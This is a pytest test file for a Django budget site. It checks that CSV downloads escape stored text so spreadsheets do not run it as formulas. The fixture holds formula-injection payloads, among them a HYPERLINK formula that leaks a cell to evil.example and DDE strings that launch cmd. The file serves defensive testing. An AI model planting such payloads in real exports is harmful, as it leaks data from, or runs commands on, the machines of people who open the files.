"""The "Download the table as CSV" files are opened in spreadsheets: no stored text may start a cell there as a
formula, whether the spreadsheet splits rows at commas or (Danish Excel) at semicolons. Numbers stay numbers; the
open-data CSV for programs keeps every text as stored."""

import csv
import io

import pytest

from budgets.changes import figures_changed
from budgets.csvfiles import EXCEL_DA, RFC4180, CsvWriter, spreadsheet_text
from budgets.models import BudgetLine
from initiatives.models import Chapter, Initiative, Strategy

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Se mere")'
ATTACKS = {
    "chapter": LEAK,
    "initiative": "+1+cmd|' /C calc'!A0",
    "line": "@SUM(1+1)*cmd|' /C calc'!A0",
    "short": "-2+3",
    "tab": "\t=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The compare page by default shows the latest two years: 2022 and 2023 are those of the strategy changed here.
URLS = [
    "/?export=csv",
    "/strategies/2021/?export=csv",
    "/initiatives/?export=csv",
    "/compare/?by=chapter&year=2022&year=2023&export=csv",
]


@pytest.fixture
def stored():
    strategy = Strategy.objects.get(slug="2021")
    initiative = Initiative.objects.get(chapter__strategy=strategy, number="26")
    Chapter.objects.filter(pk=initiative.chapter_id).update(title=ATTACKS["chapter"])
    Initiative.objects.filter(pk=initiative.pk).update(title=ATTACKS["initiative"])
    BudgetLine.objects.filter(initiatives=initiative).update(title=ATTACKS["line"])
    Strategy.objects.filter(pk=strategy.pk).update(short_title=ATTACKS["short"])
    # Danish Excel splits an unquoted field at the semicolon and would start a cell with the formula.
    Initiative.objects.filter(chapter__strategy=strategy, number="27").update(title=f"Eksport;{LEAK}")
    Initiative.objects.filter(chapter__strategy=strategy, number="28").update(title=ATTACKS["tab"])
    figures_changed()  # as every edit through the app does: no page cached before shows the old names


# The open data for programs keeps text as stored; its variant for a Danish spreadsheet escapes it like the pages'.
DANISH_OPEN_DATA = "/api/allocations.csv?strategy=2021&dialect=excel-da"


def read(client, url) -> str:
    response = client.get(url)
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8-sig")


def fields(body: str, delimiter: str) -> list[str]:
    return [field for row in csv.reader(io.StringIO(body), delimiter=delimiter) for field in row]


def is_number(text: str) -> bool:
    return text.replace("-", "", 1).replace(",", "").replace(".", "").replace("%", "").strip().isdigit()


@pytest.mark.parametrize("url", [*URLS, *(f"{url}&dialect=excel-da" for url in URLS), DANISH_OPEN_DATA])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_text_starts_a_cell_as_a_formula(client, stored, url, delimiter):
    body = read(client, url)

    formulas = [field for field in fields(body, delimiter) if field.startswith(TRIGGERS) and not is_number(field)]

    assert formulas == []


@pytest.mark.parametrize("url", [*URLS[1:], *(f"{url}&dialect=excel-da" for url in URLS), DANISH_OPEN_DATA])
def test_the_text_is_kept_behind_an_apostrophe(client, stored, url):
    found = "\n".join(fields(read(client, url), ";" if "excel-da" in url else ","))

    assert [text for text in ATTACKS.values() if "'" + text in found]


def test_numbers_negative_ones_included_stay_numbers(client):
    rows = list(csv.reader(io.StringIO(client.get("/compare/?year=2023&year=2024&export=csv").content.decode())))

    assert rows[-1] == ["I alt", "100.4", "99.1", "-1.3", "-1.3"]


def test_the_open_data_csv_keeps_text_as_stored(client, stored):
    body = b"".join(client.get("/api/allocations.csv?strategy=2021").streaming_content).decode()

    assert ATTACKS["line"] in fields(body, ",")


@pytest.mark.parametrize("dialect", [RFC4180, EXCEL_DA])
def test_it_writes_rows_of_text_a_chunk_at_a_time_as_it_writes_them_one_by_one(dialect):
    texts = ["Plain", "=1+1", "a;b", "line\n=2", "-2,5", "+3 %", "@x", "\tt", "æøå", "", "1-2", "a=b"]
    rows = [["Plain", "text"]] * 7 + [[first, second] for first in texts for second in texts] + [["end", ""]] * 4
    writer = CsvWriter(dialect, quote_all=True, text=spreadsheet_text)

    chunked = "".join(writer.text_lines(["a", "b"], rows, chunk=3))

    assert chunked == "".join(writer.lines(["a", "b"], rows))
    assert "'=1+1" in chunked and "'@x" in chunked and '"-2,5"' in chunked
